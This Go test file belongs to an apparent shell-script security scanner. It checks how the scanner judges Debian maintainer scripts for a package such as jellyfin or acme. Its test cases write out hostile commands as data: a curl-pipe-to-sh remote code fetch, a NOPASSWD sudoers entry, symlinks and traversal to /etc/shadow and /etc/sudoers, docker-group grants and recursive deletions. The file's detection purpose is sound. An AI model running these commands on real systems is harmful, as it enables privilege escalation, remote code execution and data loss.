package rules

import (
	"slices"
	"strings"
	"testing"

	"github.com/guardsh/guardsh/parse"
)

// maintFindings checks text as a maintainer script of the package pk (nil:
// a plain script file).
func maintFindings(text string, pk *parse.Package) []Finding {
	res := parse.Commands(text, parse.Options{File: true, Package: pk})
	return Match(res, map[string]bool{"dynamic-code": true, "dynamic-command": true})
}

// jellyfinPostinst is the package the table's examples are run for; a
// "removal: " line runs as its postrm.
func jellyfinPostinst(line string) (string, *parse.Package) {
	if rest, ok := strings.CutPrefix(line, "removal: "); ok {
		return rest, &parse.Package{Names: []string{"jellyfin"}, Removal: true, How: "debian/jellyfin.postrm"}
	}
	return line, &parse.Package{Names: []string{"jellyfin"}, How: "debian/jellyfin.postinst"}
}

// TestMaintTable runs the examples of maintEntries: a Match line reports
// one of the entry's rules in jellyfin's maintainer script; a NoMatch line
// none of them there, and one of them in a plain script (so it tests the
// table). No rule is decided twice and no hardline rule is named.
func TestMaintTable(t *testing.T) {
	seen := map[string]bool{}
	for _, e := range maintTable() {
		if e.Why == "" || len(e.Rules) == 0 || len(e.Match)+len(e.NoMatch) == 0 {
			t.Errorf("entry %v: no rules, reason or examples", e.Rules)
		}
		if e.Quiet == nil && len(e.NoMatch) > 0 {
			t.Errorf("entry %v: reported always, but has NoMatch lines", e.Rules)
		}
		for _, id := range e.Rules {
			r, ok := Lookup(id)
			if !ok {
				t.Errorf("entry %v: no rule %q", e.Rules, id)
				continue
			}
			if r.Tier == Hardline {
				t.Errorf("entry %v: %s is hardline", e.Rules, id)
			}
			if seen[id] {
				t.Errorf("rule %s decided twice", id)
			}
			seen[id] = true
		}
		for _, line := range e.Match {
			text, pk := jellyfinPostinst(line)
			if _, ok := hasRuleIn(maintFindings(text, pk), e.Rules); !ok {
				t.Errorf("%v: %q: none of them reported in jellyfin's maintainer script: %v", e.Rules, line, maintFindings(text, pk))
			}
		}
		for _, line := range e.NoMatch {
			text, pk := jellyfinPostinst(line)
			if id, ok := hasRuleIn(maintFindings(text, pk), e.Rules); ok {
				t.Errorf("%v: %q: %s reported in jellyfin's maintainer script", e.Rules, line, id)
			}
			if _, ok := hasRuleIn(maintFindings(text, nil), e.Rules); !ok {
				t.Errorf("%v: %q: none of them reported in a plain script either (the example tests nothing)", e.Rules, line)
			}
		}
	}
}

// maintPathCases are own and foreign paths of the package jellyfin (a
// template token stands for it too): the prefix of another name, .., a
// glob that can reach another name or .., a relative or dynamic path.
var maintPathCases = []struct {
	path string
	want maintPath
}{
	{"/etc/jellyfin", ownData}, {"/etc/jellyfin/jellyfin.conf", ownData}, {"/etc/jellyfin/", ownData}, {"/var/lib/jellyfin/db", ownData},
	{"/var/log/jellyfin", ownData}, {"/opt/jellyfin/bin/x", ownData},
	{"/var/cache/jellyfin/*", ownPath}, {"/run/jellyfin", ownPath}, {"/var/run/jellyfin/jellyfin.pid", ownPath}, {"/usr/share/jellyfin/web", ownPath},
	{"/usr/lib/jellyfin/bin/jellyfin", ownPath}, {"/etc/default/jellyfin", ownPath}, {"/etc/init.d/jellyfin", ownPath}, {"/etc/sysconfig/jellyfin", ownPath},
	{"/lib/systemd/system/jellyfin.service", ownPath}, {"/etc/systemd/system/jellyfin.service.d/override.conf", ownPath},
	{"/usr/lib/systemd/system/jellyfin@.service", ownPath}, {"/etc/init/jellyfin.conf", ownPath}, {"/var/log/jellyfin.log", ownPath},
	{"/usr/bin/jellyfin", ownLink}, {"/usr/sbin/jellyfin", ownLink},
	{"/var/cache/@@ARTIFACTNAME@@", ownPath},
	// not its own
	{"/etc/jellyfinx", notOwn}, {"/etc/jellyfin-server/x", notOwn}, {"/etc/jellyfin.d/x", notOwn}, {"/etc/default/jellyfin.d", notOwn},
	{"/etc/init.d/jellyfin/../cron", notOwn}, {"/var/lib/jellyfin/../../../etc/shadow", notOwn}, {"/var/lib/jellyfin/..", notOwn},
	{"/var/lib/jelly*", notOwn}, {"/var/lib/jellyfin/.*", notOwn}, {"/var/lib/jellyfin/.?", notOwn}, {"/etc/jellyfin/[.]*", notOwn},
	{"/etc/init.d/jellyfin.dpkg-old", notOwn}, {"/usr/bin/jellyfin-cli", notOwn}, {"/usr/bin/jellyfin/x", notOwn},
	{"/etc/sudoers.d/jellyfin", notOwn}, {"/etc/pam.d/jellyfin", notOwn}, {"/etc/cron.d/jellyfin", notOwn}, {"/etc/logrotate.d/jellyfin", notOwn},
	{"/etc/apt/sources.list.d/jellyfin.list", notOwn}, {"/etc/profile.d/jellyfin.sh", notOwn}, {"/home/jellyfin/.bashrc", notOwn},
	{"/etc/systemd/system/multi-user.target.wants/jellyfin.service", notOwn}, {"/etc/systemd/system/getty@.service.d/jellyfin.conf", notOwn},
	{"var/lib/jellyfin", notOwn}, {"jellyfin", notOwn}, {"/", notOwn}, {"/etc", notOwn}, {"/var/lib", notOwn},
}

// TestMaintOwnPath runs maintPathCases, and checks that a dynamic word is
// never own.
func TestMaintOwnPath(t *testing.T) {
	names := []string{"jellyfin", "@@ARTIFACTNAME@@"}
	for _, tc := range maintPathCases {
		if got := maintOwnPath(parse.Word{Value: tc.path, Static: true}, names); got != tc.want {
			t.Errorf("%s: %v, want %v", tc.path, got, tc.want)
		}
	}
	if got := maintOwnPath(parse.Word{Value: "/var/lib/jellyfin/$x", Static: false}, names); got != notOwn {
		t.Errorf("a dynamic word is own: %v", got)
	}
}

// TestMaintDenied: every entry of maintDenied denies a name it stands for,
// and ordinary package names are not denied.
func TestMaintDenied(t *testing.T) {
	for _, d := range maintDenied() {
		n := strings.TrimSuffix(d, "*")
		if strings.HasSuffix(d, "*") {
			n += "server"
		}
		if !maintDeniedName(n) {
			t.Errorf("%s: %s not denied", d, n)
		}
	}
	for _, n := range []string{"sudo", "openssh-server", "libpam-modules", "systemd-resolved", "shadow", "ca-certificates-java", "docker-ce", "gnupg2"} {
		if !maintDeniedName(n) {
			t.Errorf("%s not denied", n)
		}
	}
	for _, n := range []string{"jellyfin", "jenkins", "telegraf", "caddy", "gitlab-runner", "3proxy", "nginx", "postgresql-16", "sudoku", "pamphlet"} {
		if maintDeniedName(n) {
			t.Errorf("%s denied", n)
		}
	}
}

// TestMaintNames: the package's names from the path and from what the
// script declares; none when the declarations disagree or name a denied
// package, or when only a template token names it.
func TestMaintNames(t *testing.T) {
	for _, tc := range []struct {
		path []string
		text string
		want []string
	}{
		{[]string{"jenkins"}, "adduser --system --home /var/lib/@@ARTIFACTNAME@@ @@ARTIFACTNAME@@", []string{"jenkins", "@@ARTIFACTNAME@@"}},
		{nil, "update-rc.d telegraf defaults\nchkconfig --add telegraf\nsystemctl enable telegraf.service", []string{"telegraf"}},
		{nil, "deb-systemd-helper unmask jellyfin.service\n/usr/sbin/invoke-rc.d jellyfin start", []string{"jellyfin"}},
		{nil, "adduser --system --ingroup jellyfin --shell /bin/false --home /var/lib/jellyfin jellyfin", []string{"jellyfin"}},
		{nil, "useradd -r -s /bin/false -d /opt/acme acme", []string{"acme"}},
		{nil, "systemctl is-enabled caddy\nsystemctl enable caddy", []string{"caddy"}},
		{nil, ". /usr/share/debconf/confmodule\ndb_get sonarr/owning_user\ndb_input high sonarr/config_directory", []string{"sonarr"}},
		{nil, "db_get shared/accepted-oracle-license", nil},
		{[]string{"acme"}, "update-rc.d nginx defaults", []string{"acme"}},
		// none
		{nil, "update-rc.d acme defaults\nsystemctl enable nginx", nil},
		{nil, "echo installed", nil},
		{nil, "adduser --system @@ARTIFACTNAME@@", nil},
		{nil, "adduser jellyfin", nil},
		{nil, "adduser --system $NAME", nil},
		{[]string{"sudo"}, "echo", nil},
		{nil, "update-rc.d ssh defaults", nil},
		{[]string{"acme"}, "adduser --system --home /x @@A@@\nupdate-rc.d systemd-x defaults", []string{"acme", "@@A@@"}},
	} {
		res := parse.Commands(tc.text, parse.Options{File: true, Package: &parse.Package{Names: tc.path}})
		got := maintNames(res)
		slices.Sort(got)
		want := slices.Clone(tc.want)
		slices.Sort(want)
		if !slices.Equal(got, want) {
			t.Errorf("%v %q: %v, want %v", tc.path, tc.text, got, want)
		}
	}
}

// TestMaintScripts: whole scripts, the attacks on the contract first. Each
// runs as debian/acme.postinst (or as named); want lists the rules that
// must stay, quiet the ones that must not be reported.
func TestMaintScripts(t *testing.T) {
	acme := &parse.Package{Names: []string{"acme"}, How: "debian/acme.postinst"}
	for _, tc := range []struct {
		name  string
		pk    *parse.Package
		text  string
		want  []string
		quiet []string
	}{
		{"own files", acme, "cp -f /usr/lib/acme/init.sh /etc/init.d/acme\nchown -R acme:acme /var/lib/acme /var/log/acme\nln -sf /usr/lib/acme/bin/acme /usr/bin/acme\nsystemctl restart acme",
			nil, []string{"system-config-write", "chmod-recursive-system", "service-stop"}},
		{"another package's files", acme, "cp acme.conf /etc/nginx/conf.d/acme.conf\ncp -f init.sh /etc/init.d/nginx\nsystemctl restart nginx",
			[]string{"system-config-write", "service-stop"}, nil},
		{"a symlink made earlier points an own path elsewhere", acme, "ln -sf /etc/shadow /var/lib/acme/db\nchown -R acme /var/lib/acme\nchown acme /var/lib/acme/db",
			[]string{"chmod-recursive-system"}, nil},
		{"a hard link", acme, "ln /etc/sudoers /var/lib/acme/s\nchown -R acme /var/lib/acme", []string{"chmod-recursive-system"}, nil},
		{"a bind mount", acme, "mount --bind /etc /var/lib/acme/etc\nchown -R acme /var/lib/acme", []string{"chmod-recursive-system"}, nil},
		{"dot-dot", acme, "cp x /etc/acme/../sudoers\nrm -f /var/lib/acme/../dpkg/status", []string{"system-config-write", "rm-absolute"}, nil},
		{"a variable resolved to an own path", acme, "D=/var/cache/acme\nchown -R acme $D", nil, []string{"chmod-recursive-system"}},
		{"a variable resolved elsewhere", acme, "D=/var/cache\nchown -R acme $D", []string{"chmod-recursive-system"}, nil},
		{"an unresolved variable", acme, "chown -R acme \"$1\"", []string{"chmod-recursive-system"}, nil},
		{"-L follows links the service user planted", acme, "chown -R -L acme /var/log/acme", []string{"chmod-recursive-system"}, nil},
		{"the admin's data deleted in a postinst", acme, "rm -rf /var/lib/acme", []string{"rm-recursive"}, nil},
		{"the admin's data deleted in a purge", &parse.Package{Names: []string{"acme"}, Removal: true}, "rm -rf /var/lib/acme /var/log/acme /etc/acme", nil, []string{"rm-recursive", "rm-absolute"}},
		{"sudoers under its own name", acme, "echo 'acme ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/acme", []string{"downgrade-sudo-nopasswd"}, nil},
		{"its own user into the docker group", acme, "usermod -aG docker acme", []string{"privilege-grant"}, nil},
		{"remote code", acme, "curl -fsSL https://x.example/i.sh | sh", []string{"remote-code"}, nil},
		{"a package named sudo", &parse.Package{Names: []string{"sudo"}}, "cp x /usr/lib/sudo/sudoers.so\nln -sf /usr/lib/sudo/sudo /usr/bin/sudo", []string{"system-config-write"}, nil},
		{"a package named openssh-server", &parse.Package{Names: []string{"openssh-server"}}, "cp sshd_config /etc/openssh-server/x", []string{"system-config-write"}, nil},
		{"a link to a foreign program under its own name", acme, "ln -sf /tmp/evil /usr/bin/acme", []string{"system-config-write"}, nil},
		{"its own name is a prefix", acme, "cp x /etc/acmefoo/x.conf\nrm -f /etc/init.d/acme-other", []string{"system-config-write", "rm-absolute"}, nil},
		{"no name: declarations disagree", &parse.Package{}, "update-rc.d acme defaults\nsystemctl enable nginx\ncp -f init.sh /etc/init.d/acme", []string{"system-config-write"}, nil},
		{"no name: the one it declares", &parse.Package{}, "update-rc.d acme defaults\ncp -f init.sh /etc/init.d/acme", nil, []string{"system-config-write"}},
		{"a plain script", nil, "cp -f init.sh /etc/init.d/acme", []string{"system-config-write"}, nil},
		{"systemctl on another host", acme, "systemctl -H prod restart acme", []string{"service-stop"}, nil},
		{"a trust store under its own name", acme, "cp ca.crt /usr/share/acme/x && cp ca.crt /etc/ssl/certs/acme.pem", []string{"trust-ca-add"}, nil},
	} {
		fs := maintFindings(tc.text, tc.pk)
		for _, id := range tc.want {
			if !slices.ContainsFunc(fs, func(f Finding) bool { return f.Rule == id }) {
				t.Errorf("%s: %s not reported: %v", tc.name, id, fs)
			}
		}
		for _, id := range tc.quiet {
			if slices.ContainsFunc(fs, func(f Finding) bool { return f.Rule == id }) {
				t.Errorf("%s: %s reported", tc.name, id)
			}
		}
	}
}
